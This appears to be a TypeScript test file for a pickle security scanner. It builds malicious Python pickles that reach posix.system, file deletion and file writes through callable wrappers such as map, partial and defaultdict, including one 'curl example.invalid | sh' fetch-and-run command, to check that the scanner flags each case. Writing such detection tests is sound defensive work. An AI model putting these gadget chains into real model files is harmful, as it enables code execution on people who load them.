/** P-27 and P-28: callables that call, hold or consume others. */
import { pickle, type PickleAssembler } from '../../support/pickle-assembler.js';
import { bypass, callCases, type BypassCase, type Expectation } from '../bypass-case.js';

const p = (): PickleAssembler => pickle().proto(4);
const system = (assembler: PickleAssembler): PickleAssembler => assembler.global('posix', 'system');
const runsSystem: Expectation = ['critical', 'pickle/dangerous-call', 'posix.system'];
const unlisted = (name: string): Expectation => ['critical', 'pickle/unlisted-callable', name];
const computed: Expectation = ['critical', 'pickle/computed-name'];

/** `module.name(posix.system, ['echo hello'])`, the shape of map and its like. */
const over = (module: string, name: string): PickleAssembler =>
  system(p().global(module, name)).emptyList().unicode('echo hello').append().tuple2().reduce();
/** `module.name(posix.system)` */
const given = (module: string, name: string): PickleAssembler =>
  system(p().global(module, name)).tuple1().reduce();

const callers: readonly (readonly [module: string, name: string])[] = [
  ['builtins', 'map'],
  ['builtins', 'filter'],
  ['builtins', 'sorted'],
  ['builtins', 'min'],
  ['functools', 'reduce'],
  ['itertools', 'starmap'],
  ['itertools', 'takewhile'],
  ['itertools', 'dropwhile'],
  ['itertools', 'accumulate'],
  ['itertools', 'groupby'],
  ['types', 'MethodType'],
  ['numpy', 'vectorize'],
];
const holders: readonly (readonly [module: string, name: string])[] = [
  ['functools', 'partial'],
  ['functools', 'cmp_to_key'],
  ['functools', 'lru_cache'],
  ['collections', 'defaultdict'],
  ['weakref', 'ref'],
  ['types', 'MappingProxyType'],
  ['collections', 'ChainMap'],
  ['collections', 'deque'],
];

export const carriers: readonly BypassCase[] = [
  ...callers.map(([module, name]) =>
    bypass(
      'P-27',
      `\`${module}.${name}\` is given a function to call`,
      runsSystem,
      over(module, name).stop(),
      ['modelaudit#1061'],
    ),
  ),
  ...holders.map(([module, name]) =>
    bypass('P-27', `\`${module}.${name}\` holds a function`, runsSystem, given(module, name).stop(), [
      'modelaudit#1063',
    ]),
  ),
  ...callCases('P-27', [
    ['weakref', 'finalize'],
    ['threading', 'Timer'],
    ['atexit', 'register'],
    ['signal', 'signal'],
    ['sys', 'settrace'],
    ['concurrent.futures', 'Future.add_done_callback'],
    ['string', 'Formatter.format'],
  ]),
  bypass(
    'P-27',
    '`re.sub` with a function for its replacement',
    unlisted('re.sub'),
    system(p().global('re', 'sub').unicode('.')).unicode('x').tuple3().reduce().stop(),
    ['modelaudit#1216'],
  ),
  bypass(
    'P-27',
    'a factory that a missing key calls',
    runsSystem,
    p()
      .global('operator', 'getitem')
      .global('collections', 'defaultdict')
      .global('posix', 'system')
      .tuple1()
      .reduce()
      .unicode('k')
      .tuple2()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-27',
    'a methodcaller that is called on an object of the file',
    computed,
    p()
      .global('operator', 'methodcaller')
      .unicode('unlink')
      .tuple1()
      .reduce()
      .global('pathlib', 'PosixPath')
      .unicode('x')
      .tuple1()
      .reduce()
      .tuple1()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-27',
    'a bound method of a path is mapped',
    ['critical', 'pickle/unexpected-arguments', 'builtins.map'],
    p()
      .global('builtins', 'map')
      .global('builtins', 'getattr')
      .global('pathlib', 'PosixPath')
      .unicode('x')
      .tuple1()
      .reduce()
      .unicode('write_text')
      .tuple2()
      .reduce()
      .emptyList()
      .unicode('x')
      .append()
      .tuple2()
      .reduce()
      .stop(),
  ),
  ...['list', 'tuple', 'set', 'dict', 'sum', 'any'].map((name) =>
    bypass(
      'P-28',
      `\`builtins.${name}\` consumes a map`,
      runsSystem,
      system(p().global('builtins', name).global('builtins', 'map'))
        .emptyList()
        .unicode('echo hello')
        .append()
        .tuple2()
        .reduce()
        .tuple1()
        .reduce()
        .stop(),
    ),
  ),
  ...['deque', 'Counter', 'OrderedDict'].map((name) =>
    bypass(
      'P-28',
      `\`collections.${name}\` consumes a map`,
      runsSystem,
      system(p().global('collections', name).global('builtins', 'map'))
        .emptyList()
        .unicode('echo hello')
        .append()
        .tuple2()
        .reduce()
        .tuple1()
        .reduce()
        .stop(),
    ),
  ),
  bypass(
    'P-28',
    'BUILD hands a map to `update`',
    runsSystem,
    system(p().global('collections', 'Counter').emptyTuple().reduce().global('builtins', 'map'))
      .emptyList()
      .unicode('echo hello')
      .append()
      .tuple2()
      .reduce()
      .build()
      .stop(),
  ),
  bypass(
    'P-27',
    'a partial holds the argument of a class that opens it',
    ['critical', 'pickle/library-call', 'sentence_transformers.SentenceTransformer'],
    p()
      .global('functools', 'partial')
      .global('sentence_transformers', 'SentenceTransformer')
      .unicode('x')
      .tuple2()
      .reduce()
      .emptyTuple()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-27',
    'a partial holds the command of an unknown class',
    ['critical', 'pickle/foreign-call', 'my_package.Net'],
    p()
      .global('functools', 'partial')
      .global('my_package', 'Net')
      .unicode('curl example.invalid | sh')
      .tuple2()
      .reduce()
      .emptyTuple()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-27',
    'a map makes a class that opens its argument',
    ['critical', 'pickle/library-call', 'ultralytics.models.yolo.model.YOLO'],
    p()
      .global('builtins', 'map')
      .global('ultralytics.models.yolo.model', 'YOLO')
      .emptyList()
      .unicode('x')
      .append()
      .tuple2()
      .reduce()
      .stop(),
  ),
  bypass(
    'P-27',
    'a map calls a method of a table that writes a file',
    ['critical', 'pickle/dangerous-call', 'pandas.core.frame.DataFrame.to_csv'],
    p()
      .global('builtins', 'map')
      .global('pandas.core.frame', 'DataFrame.to_csv')
      .emptyList()
      .unicode('x')
      .append()
      .tuple2()
      .reduce()
      .stop(),
  ),
];
